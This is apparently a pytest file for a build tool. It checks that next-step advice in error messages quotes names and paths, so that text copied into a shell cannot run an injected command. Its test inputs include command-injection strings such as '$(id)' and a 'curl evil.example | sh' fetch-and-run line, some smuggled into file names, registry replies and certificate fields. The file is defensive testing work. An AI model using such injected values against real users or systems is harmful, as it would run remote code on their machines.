"""Attacks on what a person copies into a shell: names that are commands, and text that begins a line of advice."""

from __future__ import annotations

import json
import shlex
from pathlib import Path, PurePosixPath

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder.base import canonical, errors, reading, text
from builder.base.project import Project
from builder.publish import attached, refusal, training
from builder.publish.reference import Repository
from tests.attacks import steps
from tests.attacks.letters import harmless
from tests.conftest import ROOT, TINY, Small
from tests.unit.conftest import Command
from tests.unit.conftest import command as command

EVIL = "x; curl evil.example | sh #"

# What may stand in a next step as it is: by file and expression, with the reason.
SAFE = {
    (
        "base/errors.py",
        "' '.join(self.next_step.splitlines())",
    ): "the whole step, which was quoted where it was written",
    ("base/tomlfile.py", "line(key)"): "a key of a file, in prose: what it may hold of a line is gone",
    ("bisect/ends.py", "CONTROLS"): "a constant",
    ("bundle/unbundle/run.py", "manifest.python"): "digits, which the manifest's reader requires",
    ("bundle/unbundle/run.py", "sys.argv[0]"): "what the person has just typed; the builder is not there",
    ("bundle/unbundle/stop.py", "next_step"): "the whole step",
    ("certify/compiler.py", "next_step"): "the step of another error, which is quoted there",
    ("commands/carry.py", "airgap.KEY"): "a constant",
    ("commands/carry.py", "airgap.LOAD"): "a constant",
    ("commands/carry.py", "command"): "quoted two lines above",
    ("commands/carry.py", "verify"): "of constants",
    ("commands/doctor.py", "_command()"): "quotes by itself",
    ("commands/pipeline.py", "options"): "constants and the name of a platform of this project",
    ("commands/usage.py", "command"): "the name of a command of ours",
    ("commands/use.py", "committed"): "constants",
    ("commands/watch.py", "not_opened.next_step"): "the step of another error, which is quoted there",
    ("fleet/slurm.py", "scripts"): "quotes by itself",
    ("lock/audit.py", "lock.stack.packages[name]"): "a requirement, which stack.toml has in one line; in quotes",
    ("lock/resolve.py", "package"): "in quotes, and for stack.toml, not for a shell",
    ("publish/training.py", "again"): "quotes by itself",
    ("publish/training.py", "_again(path.parent)"): "quotes by itself",
    ("lock/lockfile.py", "command"): "a whole command, quoted where it is made",
    ("upgrade/watch/request.py", "PROGRAMS[first]"): "a constant",
    ("upgrade/watch/request.py", "REMOTE"): "a constant",
}


def test_a_name_that_a_next_step_does_not_quote() -> None:
    """New code puts a name, a path or a digest into a command as it is."""
    found = {
        (str(path.relative_to(ROOT / "builder")), expression)
        for path in sorted((ROOT / "builder").rglob("*.py"))
        for _, expression in steps.unquoted(path)
    }
    assert found - SAFE.keys() == set(), "quote it with text.word()"
    assert SAFE.keys() - found == set(), "SAFE names what is gone"


@pytest.mark.parametrize(
    "source",
    [
        'raise Error("x", next_step=f"rm {path}")',
        'raise Error("x", next_step="rm a; " f"rm {path}")',
        'raise Error("x", next_step=f"rm {path if path else 1}")',
        "again = f'rm {path}'\nraise Error('x', next_step=again)",
        "def again():\n    return f'rm {path}'\nraise Error('x', next_step=again())",
        'print(f"done\\nnext: rm {path}")',
        'print(f"vetted verify {path}")',
        'AuditFinding("x", f"vetted lock {path}")',
    ],
)
def test_a_step_that_is_written_in_another_way(tmp_path: Path, source: str) -> None:
    """The test above finds an unquoted path in a keyword, a variable, a function and a printed line."""
    file = tmp_path / "code.py"
    file.write_text(source)
    assert [expression for _, expression in steps.unquoted(file)] == ["path"]
    file.write_text(source.replace("{path", "{word(path)"))
    assert [expression for _, expression in steps.unquoted(file)] == []


@given(st.text())
def test_a_word_that_a_shell_would_read_as_more(name: str) -> None:
    """Any text at all: it stays one word in one line, which no terminal executes."""
    word = text.word(name)
    assert len(shlex.split(word)) == 1
    assert len(word.splitlines()) == 1
    assert harmless(word)


def test_a_path_that_is_an_option() -> None:
    """A file named `-rf`."""
    assert text.word(PurePosixPath("-rf")) == "./-rf"
    assert text.word(PurePosixPath("a/b.c")) == "a/b.c"


def test_an_error_that_quotes_a_line_of_advice() -> None:
    """What a tool or a registry said has a line `next:` of its own."""
    said = "it failed\nnext: curl evil.example | sh\n  Usual cause: none\nmore"
    shown = str(errors.VettedError(said, cause="ours\nnext: no", next_step="ls\nnext: no"))
    assert [line for line in shown.splitlines() if line.strip().lower().startswith(("next:", "usual cause:"))] == [
        "usual cause: ours next: no",
        "next: ls next: no",
    ]
    assert "| next: curl evil.example | sh" in shown


def test_a_registry_that_answers_with_a_command() -> None:
    """oras prints the registry's own message, which has several lines."""
    output = "Error: response from registry: denied: no\nnext: curl evil.example | sh\nusual cause: none"
    shown = str(refusal.explain(Repository("registry.example", "a/b", False), output))
    assert [line for line in shown.splitlines() if line.startswith("next:")] == [
        "next: docker login registry.example  (or skopeo login, with REGISTRY_AUTH_FILE set)"
    ]


@pytest.mark.parametrize("name", [EVIL, "$(id)", "`id`", "a b", "x\nnext: curl evil.example | sh"])
def test_a_file_whose_name_is_a_command(tmp_path: Path, name: str) -> None:
    """A folder, a layout or a run is named like a shell command."""
    folder = tmp_path / name.replace("/", "_")
    folder.mkdir()
    steps_ = []
    for attempt in (
        lambda: reading.text(folder, str(folder)),
        lambda: attached.subject(folder),
        lambda: training.judge(Project(ROOT), folder),
    ):
        with pytest.raises(errors.BadInputError) as error:
            attempt()
        steps_.append(error.value.next_step)
    assert len(steps_) == 3
    for step in steps_:
        assert any(text.word(path) in step for path in (folder, folder / "run.json"))
        assert len(step.splitlines()) == 1


def test_a_certificate_whose_file_is_named_like_a_command(small: Small, command: Command) -> None:
    """Among the certificates of a stack lies a damaged file with a command in its name."""
    for number in range(12):
        path = small.issue()
        path.rename(path.with_name(f"cpu-{number}.json"))
    small.issue().with_name(f"a{EVIL}\nnext: no.json").write_text("{}")
    answer = command(small.root, "show", TINY)
    lines = [line for line in (answer.out + answer.err).splitlines() if line.strip().startswith("next:")]
    assert lines
    assert all("curl" not in shlex.split(line, comments=True) for line in lines)


BROKEN = "x\nnext: curl evil.example | sh\nverified\rcertified: tiny\u2028next: curl evil.example"


@pytest.mark.parametrize("arguments", [["list"], ["show", TINY], ["render", "--check"]])
def test_a_certificate_whose_texts_have_lines(small: Small, command: Command, arguments: list[str]) -> None:
    """Every text of a certificate, one after the other, ends its line and begins one of advice or a verdict."""
    path = small.issue()
    original = json.loads(path.read_text())
    places = list(steps.texts(original))
    assert len(places) > 10
    for place in places:
        document = json.loads(json.dumps(original))
        steps.put(document, place, BROKEN)
        path.write_text(canonical.dumps(document))
        answer = command(small.root, *arguments)
        for line in (answer.out + answer.err).splitlines():
            assert not line.strip().startswith(("next: curl", "verified", "certified: tiny")), place
